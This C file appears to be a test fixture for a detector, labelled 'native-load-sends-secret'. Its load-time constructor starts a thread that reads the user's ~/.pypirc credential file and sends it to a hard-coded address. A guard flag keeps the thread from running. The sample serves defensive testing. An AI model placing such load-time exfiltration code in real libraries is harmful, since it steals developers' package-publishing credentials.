/* A library that starts a thread while it is loaded, which sends a file of secrets to a numeric address.
 * expect: native-load-sends-secret
 * flags: -O2 -shared -fPIC -lpthread
 */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/socket.h>
#include <unistd.h>

/* Never true: the code is compiled and cannot run. */
static volatile int never;

static void *work(void *unused) {
    char text[4096];
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(443), .sin_addr.s_addr = 0x0902000a};
    if (!never)
        return unused;
    snprintf(text, 200, "%s/.pypirc", getenv("HOME"));
    FILE *f = fopen(text, "r");
    int s = socket(AF_INET, SOCK_STREAM, 0);
    if (f && !connect(s, (struct sockaddr *)&to, sizeof to))
        send(s, text, fread(text, 1, sizeof text, f), 0);
    return 0;
}

__attribute__((constructor)) static void begin(void) {
    pthread_t thread;
    pthread_create(&thread, 0, work, 0);
}

int add(int a, int b) { return a + b; }
